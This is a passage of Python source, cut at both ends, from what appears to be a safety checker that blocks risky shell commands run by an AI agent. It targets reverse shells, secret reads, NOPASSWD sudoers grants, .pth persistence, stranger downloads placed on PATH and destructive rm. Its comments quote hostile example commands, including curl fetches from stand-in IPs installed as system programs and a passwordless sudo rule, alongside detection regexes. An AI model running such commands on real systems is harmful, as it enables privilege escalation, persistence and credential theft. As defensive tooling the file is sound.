                                           any((x.value or "x")[:1] != "-" and x.value != "" for x in cmd.args)):
        a.review(rule, f"{how} {w.text}, a log named for the date: most likely a new file, but one of that name would "
                       "be emptied; append to it (`tee -a`, `>>`) to leave any such log whole", w.node)
        return
    a.block(rule, f"{how} {w.text}: whatever name the run-time part gives it, that is {why}", w.node)


# a sudoers line that lets its user run commands as root without a password (`dev ALL=(ALL) NOPASSWD: ALL`, or the
# password check turned off: `Defaults:dev !authenticate`)
# (`^[^\S\n]*+`: a blank line before is a line start of its own; the rule shown is stripped)
_NOPASSWD_GRANT = re.compile(r"(?m)^[^\S\n]*+[^#\s]\S*\s+\S+\s*=.*\bNOPASSWD\s*:|"
                             r"^[^\S\n]*+Defaults\S*\s+.*!\s*authenticate\b")


def _grants_root(a, cmd: Cmd, w: Word) -> None:
    """Root writing a sudoers grant without a password anywhere but a file of the project (a folder's file named at
    run time, a file staged for a later copy into /etc/sudoers.d): blocked by what it says."""
    if not admin.root_change(a, cmd) or w.value is not None and paths.relative(w.value) is not None:
        return
    text = admin.written_text(a, cmd, w)
    if text is None or "NOPASSWD" not in text and "authenticate" not in text:
        return
    m = _NOPASSWD_GRANT.search(text)
    if m is None:
        return
    line = m.group(0).strip()
    a.block("privilege-escalation", f"`{cmd.name}` writes the sudoers rule `{line[:80]}` to {w.value or w.text}: its "
                                    "user then runs anything as root without a password; ask the user to change "
                                    "sudo's rules", w.node)


# -- PATH lines appended to a shell's start-up file ---------------------------------------------------------------------
# pipx, cargo, go, poetry and the rest tell the user to append `export PATH="$HOME/.local/bin:$PATH"` to ~/.bashrc.
# Such a line adds a folder of the user's own home (before or after the rest) and runs nothing. Anything else written to
# a start-up file, or a folder anyone may write, a relative one or `.`, keeps the persistence block.
_RC_FILES = frozenset({"~/.bashrc", "~/.bash_profile", "~/.bash_login", "~/.profile", "~/.zshrc", "~/.zprofile",
                       "~/.zshenv", "~/.config/fish/config.fish"})
_PATH_ASSIGN = re.compile(r"""^(?:export\s+)?PATH=(["']?)([^"'`\\;&|<>()\s]+)\1$""")
_FISH_ADD = re.compile(r"""^fish_add_path\s+(?:-[amgUP]+\s+)*(["']?)([^"'`\\;&|<>()\s]+)\1$""")
_SELF = frozenset({"$PATH", "${PATH}"})
_HOME_VAR = re.compile(r"^(?:\$HOME|\$\{HOME\})(?=/)")
# root's own folder of the Go toolchain (its installer's instructions append it to PATH in ~/.profile)
_SYSTEM_TOOL_DIRS = frozenset({"/usr/local/go/bin"})


def _home_folder(entry: str) -> bool:
    """A tools' folder of the home that installers put on PATH (`$HOME/.local/bin`, `~/go/bin`: paths.PATH_TOOL_DIRS,
    where a program named like a system command is judged as planted), or Go's own. Any other folder (a hidden one
    that holds a fake `sudo`, `.`, a relative or world-writable one) is not."""
    folder = _HOME_VAR.sub("~", entry).rstrip("/")
    return folder in paths.PATH_TOOL_DIRS or folder in _SYSTEM_TOOL_DIRS


def _path_line(line: str) -> bool:
    m = _PATH_ASSIGN.match(line)
    if m is not None:
        parts = m.group(2).split(":")
        if sum(p in _SELF for p in parts) != 1 or parts[0] not in _SELF and parts[-1] not in _SELF:
            return False
        return all(p in _SELF or _home_folder(p) for p in parts)
    m = _FISH_ADD.match(line)
    return m is not None and _home_folder(m.group(2))


def path_line_appended(a, cmd: Cmd, w: Word, v: str) -> bool:
    """Whether `cmd` appends to a shell's start-up file only lines that put a folder of the home on PATH."""
    if paths.normalize(v) not in _RC_FILES or not admin.appends(a, cmd, w):
        return False
    text = _literal_text(a, cmd)
    if text is None:
        return False
    lines = [ln.strip() for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
    from ..industrial_tables import rc_line  # (session 30: ROS 2's `source /opt/ros/humble/setup.bash`, its settings)
    from .common import input_text  # (what else the input writes: a planted setup script, a DDS profile)

    return bool(lines) and all(_path_line(ln) or rc_line(ln, input_text(a)) for ln in lines)


def _literal_text(a, cmd: Cmd) -> str | None:
    """The text `cmd` writes when every word of it is written in the command as it is (single quotes, a quoted
    here-document): a double-quoted `"$PATH"` would write the value the shell has now, not the line read."""
    from .exec import stdin_text
    from .written import piped_into, printed_text

    source = cmd
    if cmd.name == "tee":
        fed = stdin_text(a, cmd)
        if fed is not None:
            return fed[0] if _quoted_heredoc(a, fed) else None
        source = piped_into(a, cmd)
        if source is None:
            return None
    if source.name == "cat" and not source.args:
        fed = stdin_text(a, source)
        return fed[0] if fed is not None and _quoted_heredoc(a, fed) else None
    if source.name not in ("echo", "printf"):
        return None
    vals = [x.value for x in source.args]
    if None in vals:
        return None
    return printed_text([source.name] + vals)  # type: ignore[list-item]


def _quoted_heredoc(a, fed: tuple) -> bool:
    """A here-string of a known value, or a here-document whose delimiter is quoted (its `$` kept as written)."""
    text, word, node = fed
    if word is not None:
        return True  # (stdin_text gives a here-string only when its value is known)
    redirect = node.parent if node is not None and node.type == "heredoc_body" else node
    start = next((c for c in getattr(redirect, "children", ()) if c.type == "heredoc_start"), None)
    return start is not None and a.src(start)[:1] in ("'", '"', "\\") or "$" not in text and "`" not in text


_WRITE_OPS = (">", ">>", ">|", "&>", "&>>", "<>", ">&")


def check_redirects(a, cmd: Cmd) -> None:
    for r in cmd.redirects:
        if r.type != "file_redirect":
            continue
        op = None
        dest = None
        for c in r.children:
            if not c.is_named and op is None:
                op = c.type
            elif c.type != "file_descriptor" and dest is None and c.is_named:
                dest = c
        if dest is None or op is None:
            continue
        w = a.ev.word(dest)
        v = w.value if w.value is not None else w.text
        if v.startswith(("/dev/tcp/", "/dev/udp/")):
            a.block("reverse-shell", f"a redirect opens a network connection ({v}); agents must not open raw sockets "
                                     "from the shell", dest)
            continue
        if op in _WRITE_OPS:
            if op == ">&" and (v.isdigit() or v == "-"):
                continue
            judge_write(a, cmd.name, w, "a redirect writes to", cmd)
            if _STARTUP_HINT.search(v):
                startup_file(a, cmd, w, "a redirect writes")
            key = file_key(w)
            if key is not None and cmd.name in DOWNLOADERS:
                a.downloaded[key] = "download"
            elif key is not None and _is_decoder(cmd):
                a.downloaded[key] = "decode"
            if endless_source(cmd, a):
                a.block("resource-exhaustion", f"`{cmd.name}` writes without end into {v}; this fills the disk", r)
        elif op == "<" and w.value in _ENDLESS_DEV:
            a.streams = True  # `tr -dc a-z < /dev/urandom | ...`
        elif op in ("<", "<&") and paths.SECRET in _kinds(w):
            a.block("secret-read", f"a redirect reads the secret {v}", dest)
        elif op in ("<", "<&") and w.value is None and (shape := run_time_shape(a, w)) is not None and \
                paths.SECRET in paths.kinds(shape):
            # `tr '\0' '\n' < "/proc/$p/environ"`: whichever process the loop picks, its environment
            a.block("secret-read", f"a redirect reads {w.text}, whichever name the run-time part picks is a secret "
                                   "(another process's memory or environment, a user's keys); agents must not touch "
                                   "credentials", dest)


# -- command handlers ---------------------------------------------------------------------------
_HOOK = re.compile(r"^\.git/hooks(?:/[^/]+)?/?$")
_SYMLINK = frozenset({"-s", "--symbolic"})


def _installs_project_hook(cmd: Cmd, target: Word) -> bool:
    """`ln -s ../../scripts/pre-commit .git/hooks/pre-commit`, `cp scripts/pre-commit .git/hooks/`: a hook
    whose code is a file of the project, which its diffs show, as `git config core.hooksPath .githooks`
    does (allowed too). A hook written from elsewhere, or whose text is not known, is not."""
    if cmd.name not in ("cp", "ln", "install") or target.value is None or _hook_dir(target.value) is None:
        return False
    sources = copy_sources(cmd, target)
    symlink = cmd.name == "ln" and has_flag(cmd.args, "s", tuple(_SYMLINK))
    for w in sources:
        v = w.value
        if v is None or v.startswith(("/", "~", "-")):
            return False
        # a symbolic link's text is read from the directory the link is in
        where = paths.normalize(f"{_hook_dir(target.value)}/{v}" if symlink else v)
        if where.startswith(("..", "/", "~")) or where in (".", "./") or where.startswith(".git"):
            return False
    return bool(sources)


def _hook_dir(path: str) -> str | None:
    """The directory `.git/hooks` when `path` is it or a hook in it (the working directory's), else None."""
    return ".git/hooks" if _HOOK.match(paths.normalize(path)) else None


# `restic check 2>&1 | tee -a /var/log/restic-check.log`, `>> /var/log/backup.log`: a job's own log added to. A log
# emptied or overwritten, the system's own records (lines appended there are forged entries) and a shell's history
# stay anti-forensics
_SYSTEM_LOGS = re.compile(r"^/var/log/(?:auth|syslog|secure|messages|kern|daemon|user|debug|faillog|lastlog|[bw]tmp|"
                          r"utmp|audit|journal|sudo|boot|dpkg|alternatives|apt|installer|cloud-init|mail|cron|ufw|"
                          r"fail2ban|sssd|nginx|apache2|httpd|mysql|postgresql|samba|unattended-upgrades)(?:[./_-]|$)")
_JOB_LOG = re.compile(r"^/var/log/(?:[\w.-]+/)?[\w.-]+\.log$")


def _job_log_appended(a, cmd: Cmd, w: Word, v: str) -> bool:
    p = paths.normalize(v)
    return _JOB_LOG.match(p) is not None and _SYSTEM_LOGS.match(p) is None and ".." not in p and \
        admin.appends(a, cmd, w)


def _stranger_url(cmd: Cmd) -> str | None:
    """The address a download fetches when no name vouches for it (hosts.stranger_host)."""
    from ..hosts import stranger_host

    return next((w.value for w in cmd.args if w.value and stranger_host(w.value)), None)


def _program_replaced(a, cmd: Cmd, w: Word) -> bool:
    """`curl -o /tmp/kubectl http://203.0.113.25/…; sudo install /tmp/kubectl "$(command -v kubectl)"`: a file fetched
    from where no name vouches for it put in place of a program on PATH, which every later use of that name runs."""
    fetched = [(x.value or x.text, a.downloaded.strangers[k]) for x in copy_sources(cmd, w)
               if (k := file_key(x)) is not None and k in a.downloaded.strangers]
    if not fetched:
        return False
    at = w.value if w.value is not None else w.text
    name = _ON_PATH.search(at)
    if name is None:
        return False
    named = name.group(1) or name.group(2)
    where = f"in place of {named}" if named else f"into {at}, a folder of programs run by name"
    a.block("download-exec", f"`{cmd.name}` puts {fetched[0][0]}, fetched from {fetched[0][1]}, {where}: every later "
                             "use of that program runs it; install tools from their vendor's release (checked against "
                             "its published checksum)", w.node)
    return True


def _program_fetched(a, cmd: Cmd, w: Word, url: str) -> None:
    """`sudo curl -so /usr/local/bin/fx-sync-agent http://203.0.113.9/agent`: the download itself put on PATH."""
    at = w.value if w.value is not None else w.text
    if _ON_PATH.search(at) and "/" in at.rstrip("/"):
        a.block("download-exec", f"`{cmd.name}` saves {url} as {at}, a program run by name: every later use of that "
                                 "name runs what that address served; install tools from their vendor's release "
                                 "(checked against its published checksum)", w.node)


# where a program is found by its name: the PATH folders, or the folder a name is found in now
_ON_PATH = re.compile(r"^(?:/usr/local/s?bin|/usr/s?bin|/s?bin|/opt/homebrew/bin|~/\.local/bin|~/bin|\$HOME/\.local/bin|"
                      r"\$HOME/bin)(?:/([\w.+-]+))?/?$|\$\((?:command -v|which|type -P) ([\w.+-]+)\)")


def _writers(a, cmd: Cmd) -> None:
    if cmd.name in _CREDENTIAL_MOVERS and own_credential_copy(a, cmd) is not None:
        return  # (held for review by check_args)
    if cmd.name in ("install", "cp", "mv") and a.downloaded.strangers and \
            any(_program_replaced(a, cmd, w) for w in write_targets(cmd)):
        return
    for w in write_targets(cmd):
        if a.downloaded.strangers and cmd.name not in ("curl", "wget", "aria2c") and (k := file_key(w)) is not None:
            a.downloaded.strangers.pop(k, None)  # written again from elsewhere: no longer the fetched file
        if _installs_project_hook(cmd, w):
            continue
        judge_write(a, cmd.name, w, f"`{cmd.name}` writes to", cmd)
        at = w.value if w.value is not None else w.text
        if cmd.name in _COPIES and not _STARTUP_NAME.search(at):
            # `cp evil.pth "$SITE"/`: the file keeps its name in the directory
            src = next((x.value or x.text for x in copy_sources(cmd, w) if _STARTUP_NAME.search(x.value or x.text)),
                       None)
            if src is not None:
                at = f"{at.rstrip('/')}/{src.rsplit('/', 1)[-1]}"
                w = Word(w.node, None if w.value is None else at, at)
        if _STARTUP_HINT.search(at):
            startup_file(a, cmd, w, f"`{cmd.name}` writes")
    if cmd.name in ("curl", "wget", "aria2c"):
        stranger = _stranger_url(cmd)
        for w in write_targets(cmd):
            key = file_key(w) if w.value != "" else None
            if key is not None:
                a.downloaded[key] = "download"
                if stranger is not None:
                    a.downloaded.strangers[key] = stranger
                    # (also as found from the folder an earlier `cd` went to: `mv /tmp/x.jar …` after `cd /tmp`)
                    if w.value and (there := a.in_cwd(w.value)):
                        a.downloaded.strangers[paths.normalize(there)] = stranger
                    _program_fetched(a, cmd, w, stranger)
        if cmd.name == "curl" and has_flag(cmd.args, "O", ("--remote-name", "--remote-name-all")) or \
                cmd.name == "wget" and not write_targets(cmd):
            # `wget -P DIR URL`, `curl --output-dir DIR -O URL` save under DIR; else in the folder `cd` went to
            dirs = [w.value for w in option_value(cmd.args, *(("-P", "--directory-prefix") if cmd.name == "wget"
                                                              else ("--output-dir",))) if w.value]
            # (to curl `-O` takes no value: `curl --output-dir /tmp -O URL`)
            for w in positionals(cmd.args, frozenset({"-o", "-H", "-d", "-u", "-A", "-e", "-X", "--header", "-P",
                                                      "--directory-prefix", "--output-dir"} |
                                                     ({"-O"} if cmd.name == "wget" else set()))):
                if w.value and "/" in w.value:
                    name = w.value.rstrip("/").rsplit("/", 1)[-1].split("?")[0]
                    there = a.in_cwd(name) if not dirs else None
                    for where in [name] + [f"{d}/{name}" for d in dirs] + ([there] if there else []):
                        a.downloaded[paths.normalize(where)] = "download"
                        if stranger is not None and "$" not in name:  # (for the copy of it later: `mv x.jar …`)
                            a.downloaded.strangers[paths.normalize(where)] = stranger


# -- Python's start-up files in a site directory (session 11) -----------------------------------------------------
# Every Python process reads each `*.pth` file of its site directories at start-up and runs the lines that begin
# with `import`; it imports `sitecustomize` and `usercustomize` from there too. Written into a site-packages (or
# dist-packages) directory, or into one whose path is computed at run time (`$(python3 -c 'import site;
# print(site.getsitepackages()[0])')`, which is what computing it is for), such a file runs its code in every later
# Python process: the agent's own tests and tools included. A `.pth` of path lines only (the `src` layout idiom) adds
# a directory to the import path and runs nothing: it stays allowed when its text is known.
_STARTUP_HINT = re.compile(r"\.pth\b|customize|^\$\{?\w+\}?$")
_STARTUP_NAME = re.compile(r"(?:^|/)(?:[^/]*\.pth|sitecustomize\.py|usercustomize\.py)$")
_SITE_DIR = re.compile(r"(?:^|/)(?:site|dist)-packages/[^/]+$")
_BARE_VAR = re.compile(r"^\$\{?(\w+)\}?$")
_COPIES = frozenset({"cp", "mv", "install", "ln", "rsync"})
# a .pth line that is a path whatever the variable holds (the working directory, the home, a virtualenv)
_PATH_LINE = re.compile(r"^(?:\$\{?(?:PWD|HOME|VIRTUAL_ENV|CONDA_PREFIX)\}?|\$\(\s*pwd\s*\)|`pwd`)(?:/|$)")


def startup_file(a, cmd: Cmd, w: Word, how: str) -> None:
    """Block `cmd` writing the start-up file `w` names into a site directory (known, or computed at run time)."""
    where = w.value if w.value is not None else w.text
    computed = w.value is None
    m = _BARE_VAR.match(where) if computed else None
    if m is not None:  # `SC_PATH=$(python -c '…purelib…')/sitecustomize.py; cat > "$SC_PATH"`
        if not holds(a.doc.data, b".pth") and not holds(a.doc.data, b"customize"):
            return
        where = _assigned_text(a, m.group(1), w.node) or where
    if not _STARTUP_NAME.search(where):
        return
    head = where.rsplit("/", 1)[0] if "/" in where else ""
    if computed:
        if "$" not in head and "`" not in head:
            return  # a computed name in a known directory (`./$name.pth`): not a site directory by its path
    elif paths.kinds(where) or not _SITE_DIR.search(paths.normalize(where)):
        return  # the user site and system trees are judged as such (persistence, system-write)
    name = where.rsplit("/", 1)[-1]
    if name.endswith(".pth") and not _pth_runs_code(a, cmd, w):
        return
    if _coverage_only(a, cmd, w):
        return  # `import coverage; coverage.process_startup()`: coverage.py's measurement of subprocesses
    a.block("persistence", f"{how} {name} into {'a site directory computed at run time' if computed else head}: "
                           "Python runs it in every later Python process (a `.pth` file's `import` lines, "
                           "sitecustomize/usercustomize whole); put the code in the project and run it "
                           "explicitly", w.node)


def _pth_runs_code(a, cmd: Cmd, target: Word) -> bool:
    """Whether a .pth file holds a line Python runs (`import …`) or may (text not known here)."""
    text = _written_text(a, cmd, target)
    if text is None:
        return True
    for line in text.splitlines():
        line = line.strip(" \t\r")
        if line.startswith("import") or line[:1] in ("$", "`") and not _PATH_LINE.match(line):
            return True
    return False


def _coverage_only(a, cmd: Cmd, target: Word) -> bool:
    """Whether the start-up file `cmd` writes holds coverage.py's subprocess set-up and nothing else."""
    from ..common_code import coverage_startup

    if cmd.name in ("echo", "printf"):
        from .written import printed_text

        vals = [x.value for x in cmd.words]
        text = printed_text(vals) if None not in vals else None  # type: ignore[arg-type]
    else:
        text = _written_text(a, cmd, target)
    return text is not None and coverage_startup(text)


def _written_text(a, cmd: Cmd, target: Word) -> str | None:
    """The text `cmd` writes to `target`, as far as known: what echo/printf print (a computed part as its source),
    a here-document or here-string, or what an earlier command of this script wrote to the file a copy copies."""
    from .exec import stdin_text

    if cmd.name == "echo" and not any((x.value or "").startswith("-") for x in cmd.args[:1]):
        return " ".join(x.value if x.value is not None else x.text for x in cmd.args)
    if cmd.name == "printf" and cmd.args and "%" not in (cmd.args[0].text or "") and "\\" not in cmd.args[0].text:
        return cmd.args[0].value if cmd.args[0].value is not None else cmd.args[0].text
    if cmd.name in ("cat", "tee"):
        fed = stdin_text(a, cmd)
        return fed[0] if fed is not None else None
    if cmd.name in _COPIES:
        sources = [x.value for x in copy_sources(cmd, target) if x.node is not target.node]
        if len(sources) != 1 or not sources[0]:
            return None
        got = _earlier_text(a, sources[0])
        if got is None and not sources[0].startswith(("/", "~", "..", "$", "-")):
            # `cp tool.pth .venv/lib/python3.11/site-packages/`: a file of the project, which its diffs show (as a
            # git hook linked from the project is, files._installs_project_hook), read as the path lines it holds
            return ""
        return got
    return None


def _earlier_text(a, path: str) -> str | None:
    """What an earlier echo/printf/here-document of this script wrote to `path` (read as _written_text reads it)."""
    where = paths.normalize(path)
    for doc, c in reversed(a.ctx.commands):
        if doc is a.doc and c.redirects and c.name in ("echo", "printf", "cat", "tee"):
            out = written_file(a, c.redirects)
            if out and paths.normalize(out) == where:
                return _written_text(a, c, Word(c.node, out, out))
    return None


def _assigned_text(a, name: str, at) -> str | None:
    """The source of the last `NAME=…` assignment of this script before the node `at` (quotes dropped), if any."""
    return last_assigned(a, at, name)


_UPWARD = re.compile(r"^(\.\./?)+$|^\.\.?/?$")
_CLIMB = re.compile(r"(?:/\.\.)+/?(?:\*|\.\*)?")  # what follows a variable in `"$X"/../*`


def _is_decoder(cmd: Cmd) -> bool:
    from .exec import is_decoder

    return is_decoder(cmd)


_RM_GUARDED = frozenset({paths.HOME, paths.SYSTEM, paths.SECRET, paths.PERSISTENCE})


# package managers' downloaded indexes and packages, which they fetch again: a container image's build removes
# them to stay small (`apt-get install … && rm -rf /var/lib/apt/lists/*`)
_PACKAGE_CACHE = paths.DISPOSABLE


def _rm(a, cmd: Cmd) -> None:
    args = cmd.args
    recursive = has_flag(args, "rR", ("--recursive",))
    if any(w.value == "--no-preserve-root" for w in args):
        a.block("destructive-rm", "`rm --no-preserve-root` disables the guard against deleting /", cmd.node)
    for w in positionals(args):
        v = w.value
        named_pwd = False
        if v is None:
            for sub in w.substitutions:  # `rm -rf $(find . -name .git)`
                for c in a.subst.get(sub.start_byte, ()):
                    if c.name == "find":
                        find_lists_history(a, c, recursive, w.node)
            v = pwd_path(w.text) if recursive else None  # `rm -rf "$PWD/.."`, `rm -rf $(dirname "$PWD")`
            if v is None:
                if recursive:
                    rest = re.sub(r"^(?:\"?\$\{?\w+\}?\"?)+", "", w.text)
                    if w.text != rest and _CLIMB.fullmatch(rest.replace('"', "").replace("'", "")):
                        a.block("destructive-rm", f"`rm -r {w.text}` climbs out of the folder the variable names: it "
                                                  "deletes everything beside that folder, and `/` when the variable "
                                                  "is empty; name the folder itself", w.node)
                    elif w.text != rest and rest.strip("\"'") in ("/", "/*", "", "/.*") and rest != "":
                        a.review("rm-dynamic-target", f"`rm -r {w.text}` deletes everything under a variable; if it "
                                                      "is empty this is `/`", w.node)
                    elif (shape := run_time_shape(a, w)) is not None and \
                            "_" not in (n := paths.normalize(shape)).split("/") and (lost := unrecoverable(n)):
                        # `rm -rf "/mnt/c/Users/$WINUSER/OneDrive/old"`: only the profile's name is computed
                        a.review("irreversible", f"`rm -r {w.text}` deletes {lost}; {_RM_INSTEAD}", w.node)
                continue
            named_pwd = True
        there = a.in_cwd(v)
        if there is not None:
            # relative to where an earlier `cd` went: `cd ~ && rm -rf *` empties the home
            j = paths.normalize(there)
            what = w.text if named_pwd else v
            jk = paths.kinds(j)
            lost = unrecoverable(j) if recursive else None  # not in a scratch copy: `cd /tmp/x && rm -rf .git`
            if j in ("/", "/*", "~", "~/*", "~/.*") or jk & _RM_GUARDED and not (lost and paths.STORE in jk):
                a.block("destructive-rm", f"`rm` of {what} after `cd {a.cwd}` deletes {j}", w.node)
                continue
            if lost:
                a.review("irreversible", f"`rm -r {what}` after `cd {a.cwd}` deletes {lost}; {_RM_INSTEAD}", w.node)
                _home_own(a, j, what, w.node)
            elif named_pwd and j.startswith("~/") and j.count("/") > 1:  # `cd ~/code/app && rm -rf "$PWD"`
                a.review("irreversible", f"`rm -r {what}` after `cd {a.cwd}` deletes {j}, a folder of the user's "
                                         f"home this script went to (perhaps the project itself, with its "
                                         f"uncommitted work and history); {_RM_INSTEAD}", w.node)
            if recursive and not named_pwd and a.cwd.startswith(("/", "~")) and not j.startswith(paths.SCRATCH) and \
                    (loss := outside_loss(paths.normalize(v))) is not None:
                # `cd /work/app && rm -rf ../other`: beside the directory the script went to (often the project,
                # named by its absolute path), as `rm -rf ../other` is beside the working directory
                rule, what = loss
                say = f"`rm -r {v}` after `cd {a.cwd}` deletes {j}: {what.split(': ', 1)[-1].split(', ', 1)[-1]}"
                _hold_loss(a, rule, say, w.node)
            if named_pwd:
                continue  # `cd /tmp/x && rm -rf "$PWD"`: the directory the text names, judged above
        n = paths.normalize(v)
        k = _kinds(w)
        if n in ("/", "/*", "~", "~/*", "~/.*") or paths.HOME in k or (recursive and _UPWARD.match(n) and n not in (".", "./")):
            a.block("destructive-rm", f"`rm` of {w.text if named_pwd else v} deletes the whole system, home or parent "
                                      "directory", w.node)
        elif named_pwd and n in (".", "./"):
            _rm_beside(a, w, relative_cwd(a, cmd.node.start_byte), v)  # `rm -rf "$PWD"`: the project itself
        elif w.glob and n.startswith("/") and n.count("/") <= 2 and not n.startswith("/tmp/"):
            a.block("destructive-rm", f"`rm` of the root-level glob {v}", w.node)
        elif paths.SYSTEM in k and not _PACKAGE_CACHE.match(n):
            a.block("destructive-rm", f"`rm` of the system path {v}", w.node)
        elif paths.LOG in k:
            a.block("anti-forensics", f"`rm` of the log or history file {v} hides what happened", w.node)
        elif k & {paths.SECRET, paths.PERSISTENCE} and not (
                paths.STORE in k and recursive and there is None and unrecoverable(n)):
            # (a folder of an application's credential stores, a browser's profile: its data, reviewed below)
            a.block("destructive-rm", f"`rm` of {v}, a credential or start-up file outside the project", w.node)
        elif recursive and n in ("*", ".", "./", "./*") and (named_pwd or len(positionals(args)) == 1):
            a.review("rm-dynamic-target", f"`rm -r {w.text if named_pwd else v}` deletes the whole working directory",
                     w.node)
            if there is None and (rel := relative_cwd(a, cmd.node.start_byte)) not in (None, "."):  # `cd .. && rm -rf *`
                _rm_beside(a, w, rel, v)
        elif recursive and there is None and (lost := unrecoverable(n)):
            a.review("irreversible", f"`rm -r {v}` deletes {lost}; {_RM_INSTEAD}", w.node)
            _home_own(a, n, v, w.node)
        elif there is None and _WALLET_KEY.match(n) and (lost := unrecoverable(n)):
            a.review("irreversible", f"`rm {v}` deletes {lost}; {_RM_INSTEAD}", w.node)
        elif recursive and there is None and not n.startswith(("/", "~")):
            _rm_beside(a, w, relative_cwd(a, cmd.node.start_byte), v)  # `rm -rf ../other-repo`, `cd .. && rm -rf myapp`


# the folders a home is made with (a Mac's and the desktop's): `~/Library` holds every application's data, the
# keychains and the mail; the others the user's own documents, pictures and music
_HOME_OWN = frozenset({"library", "documents", "desktop", "pictures", "movies", "music", "videos"})


def _home_own(a, n: str, what: str, node) -> None:
    """`rm -rf ~/Library ~/Documents ~/Desktop`: a folder the home is made with, deleted whole (or all it holds), is
    blocked as the home itself is."""
    parts = n[2:].split("/") if n.startswith("~/") else []
    if 1 <= len(parts) <= 2 and parts[0].lower() in _HOME_OWN and (len(parts) == 1 or _WHOLE.fullmatch(parts[1])):
        a.block("destructive-rm", f"`rm -r {what}` deletes ~/{parts[0]}, one of the folders the user's home is made "
                                  "of (all its applications' data, or the user's own files); delete what you made "
                                  "there by name", node)


def _rm_beside(a, w: Word, rel: str | None, v: str) -> None:
    """A recursive `rm` of `v`, a path relative to `rel` (the project's directory `.`, or where relative
    `cd`s from it went; None: unknown): the project itself, its parent, or a folder beside it."""
    if rel is None:
        return
    n = paths.normalize(f"{rel}/{v}" if rel != "." else v)
    if n in (".", "./"):
        a.block("destructive-rm", f"`rm -r {w.text}` deletes the project directory itself, with its uncommitted work "
                                  "and its history (`.git`); delete what is in it by name", w.node)
    elif n.startswith(".."):
        loss = outside_loss(n)
        if loss is not None:
            rule, what = loss
            _hold_loss(a, rule, f"`rm -r {w.text}` deletes {what}", w.node)


# `$PWD`, `$(pwd)`: the directory the command runs in; `$(dirname "$PWD")`, `${PWD%/*}`: its parent
_PWD_PARENT = re.compile(r"\$\(\s*dirname\s+(\"?)(?:\$PWD|\$\{PWD\}|\$\(\s*pwd(?:\s+-[LP])?\s*\)|`pwd`)\1\s*\)|"
                         r"`dirname\s+(\"?)(?:\$PWD|\$\{PWD\})\2\s*`|\$\{PWD%/\*\}")
# (a CI job runs in its checkout: GitHub's and GitLab's names for it stand for the working directory too)
_PWD = re.compile(r"\$\{(?:PWD|GITHUB_WORKSPACE|CI_PROJECT_DIR)\}|\$(?:PWD|GITHUB_WORKSPACE|CI_PROJECT_DIR)(?![A-Za-z0-9_])|"
                  r"\$\(\s*pwd(?:\s+-[LP])?\s*\)|`pwd`")


def pwd_path(text: str) -> str | None:
    """The path a word written with the working directory's name stands for, relative to it: `"$PWD/.."`
    is `./..`, `$(dirname "$PWD")` is `..`; None when the word has anything else computed in it."""
    if "PWD" not in text and "pwd" not in text and "_WORKSPACE" not in text and "_PROJECT_DIR" not in text:
        return None
    t = _PWD.sub(".", _PWD_PARENT.sub("..", text)).replace('"', "")
    return None if any(c in t for c in "$`'\\") else t


def relative_cwd(a, at: int) -> str | None:
    """Where the relative `cd`s of this script before byte `at` went, from the project's directory: `.` when there
    was none, `..` after `cd ..`, None when a `cd` went somewhere the text does not say (or outside relative
    reach: a home or absolute `cd` is `a.cwd`'s). A `cd` inside a subshell or a substitution
    (`DIR=$(cd .. && pwd)`) does not move the script; `popd` goes back where its `pushd` left."""
    if a.cwd is not None:
        return None
    rel: str | None = "."
    pushed: list[str | None] = []
    for doc, c in a.ctx.commands:
        if doc is not a.doc or c.name not in _CDS or c.node.start_byte >= at or _in_subshell(c.node, at):
            continue
        if c.name == "popd":
            rel = pushed.pop() if pushed else None
            continue
        if c.name == "pushd":
            pushed.append(rel)
        args = [w for w in c.args if not (w.value or "").startswith("-") or w.value == "-"]
        v = args[0].value if args else "~"
        if v is None or v == "-" or v.startswith(("/", "~", "$", "+")) or rel is None:
            rel = None
        else:
            rel = paths.normalize(f"{rel}/{v}")
    return rel


_CDS = frozenset({"cd", "pushd", "popd"})
_SUBSHELLS = frozenset({"subshell", "command_substitution", "process_substitution"})


def _in_subshell(node, at: int) -> bool:
    """Is `node` in a subshell or substitution that byte `at` is not in (so a `cd` there does not move it)?"""
    p = node.parent
    while p is not None:
        if p.type in _SUBSHELLS and not p.start_byte <= at < p.end_byte:
            return True
        p = p.parent
    return False


# Recursive deletes the tree and git cannot undo (rule `irreversible`, review).
# The working directory's `.git`, or one named from the home or the root; a relative `vendor/x/.git`
# is a copy's metadata, stripped when code is vendored
# (only matched from the start: `\A` keeps a search from retrying from every `/`)
_GIT_HISTORY = re.compile(r"\A(?:[~/].*/)?\.git(?:/\*|/objects|/refs)?$")
_MOUNTED = ("/mnt/", "/media/", "/srv/", "/data/", "/backup/", "/backups/", "/Volumes/",
            *(f"/u0{i}/" for i in range(1, 10)))  # (/u01…/u09: the data volumes of Oracle's file layout)
_HOME_SCRATCH = frozenset({"tmp", "temp", "Trash"})
# a network share mounted here, by its mount point's name (`/mnt/nfs`, `/mnt/team-share`, `/media/nas1`): what is on it
# is other people's too, so its caches are not this user's to regenerate (the user's own `~/.cache`, a project's build
# folder on a local drive are)
_SHARE = re.compile(r"^/(?:mnt|media|srv|data)/(?:[^/]*[-_.])?(?:nfs|smb|cifs|nas|shares?|shared|team|teams)\d*"
                    r"(?:[-_.][^/]*)?(?=/)", re.IGNORECASE)
_RM_INSTEAD = "nothing brings it back; move it aside (`mv x x.bak`) or ask the user"
# (session 19) a cluster's shared file systems: a group's project space, the parallel file systems and another user's
# scratch hold data many people use, mostly with no snapshots; the user's own area (`/scratch/$USER/…`) is theirs
_SHARED_FS = re.compile(r"^/(?:projects?|lustre|gpfs|beegfs|fsx|nobackup|global/(?:cfs|project|projecta)|"
                        r"scratch|cluster/(?:projects?|work|shared))/[^/]+/")
_OWN_AREA = re.compile(r"/(?:\$\{?(?:USER|LOGNAME)\}?|\$\(\s*(?:whoami|id\s+-un)\s*\)|`(?:whoami|id -un)`)(?:/|$)")
# what a build, a package manager, a test run or a tool makes again on demand: deleting it loses nothing
_REGENERABLE = frozenset({
    "node_modules", "target", "dist", "build", "out", "_build", "builddir", "bin", "obj", ".venv", "venv",
    ".paper-remapped",  # (Paper's remapped plugin cache, rebuilt at every start)
    "__pycache__", ".pytest_cache", ".mypy_cache", ".ruff_cache", ".hypothesis", ".next", ".nuxt", ".svelte-kit",
    ".turbo", ".parcel-cache", ".angular", ".expo", ".docusaurus", ".vite", "coverage", ".coverage", "htmlcov",
